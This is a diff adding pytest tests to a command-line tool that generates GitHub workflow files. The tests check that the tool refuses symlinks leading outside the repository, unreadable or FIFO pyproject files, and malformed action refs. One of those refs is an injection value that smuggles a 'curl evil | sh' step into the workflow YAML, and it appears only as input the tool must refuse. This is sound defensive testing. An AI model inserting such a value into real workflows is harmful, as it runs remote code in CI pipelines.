@@ -6,6 +6,7 @@ import yaml
 
 from howtoctl import adopt
 from tests.gitrepo import GitRepo
+from tests.watchdog import watchdog
 
 WORKFLOWS = (adopt.PR_WORKFLOW, adopt.PUBLISH_WORKFLOW)
 CREATED = [
@@ -127,3 +128,43 @@ def test_pre_commit_hook_entry_names_the_hook_this_repository_offers():
     entry = yaml.safe_load(adopt.pre_commit_entry(adopt.Settings(base="main", action_ref="v1.2.3")))
     assert entry[0]["rev"] == "v1.2.3"
     assert [h["id"] for h in entry[0]["hooks"]] == [h["id"] for h in offered]
+
+
+@pytest.mark.parametrize("linked", [".github", "howtos"])
+def test_a_symlinked_directory_leading_outside_is_refused(repo, tmp_path, linked):
+    outside = tmp_path / "outside"
+    outside.mkdir()
+    (repo.path / linked).symlink_to(outside)
+    res = repo.cli("init")
+    assert res.code == 2 and "leads outside the repository" in res.err, res
+    assert list(outside.iterdir()) == []
+    assert not any(repo.exists(p) for p in CREATED if not p.startswith(linked + "/"))
+
+
+def test_unreadable_pyproject_is_bad_input(repo, tmp_path):
+    import os
+
+    repo.write("pyproject.toml", b"[tool.howtoctl]\nbase = '\xff'\n")
+    res = repo.cli("init")
+    assert res.code == 2 and "pyproject.toml is not valid UTF-8" in res.err, res
+    os.unlink(repo.path / "pyproject.toml")
+    os.mkfifo(repo.path / "pyproject.toml")
+    with watchdog(60):  # a watchdog: before the fix, reading the pipe waited for ever
+        res = repo.cli("init")
+    assert res.code == 2 and "pyproject.toml is not a regular file" in res.err, res
+    assert not any(repo.exists(p) for p in CREATED)
+
+
+@pytest.mark.parametrize(
+    "ref", ["v1\n      - run: curl evil | sh", "-x", "v1 x", "a..b", "main.lock", "x\x7f", ""]
+)
+def test_bad_action_ref_is_refused_and_nothing_is_written(repo, ref):
+    res = repo.cli("init", "--action-ref", ref)
+    assert res.code == 2 and "--action-ref" in res.err, res
+    assert not any(repo.exists(p) for p in CREATED)
+
+
+@pytest.mark.parametrize("ref", ["v1.2.3", "release/2026-11", "0123456789abcdef" * 2 + "01234567"])
+def test_good_action_ref_is_used(repo, ref):
+    assert repo.cli("init", "--action-ref", ref).code == 0
+    assert f"{adopt.ACTION_REPO}@{ref}" in repo.read(adopt.PR_WORKFLOW)
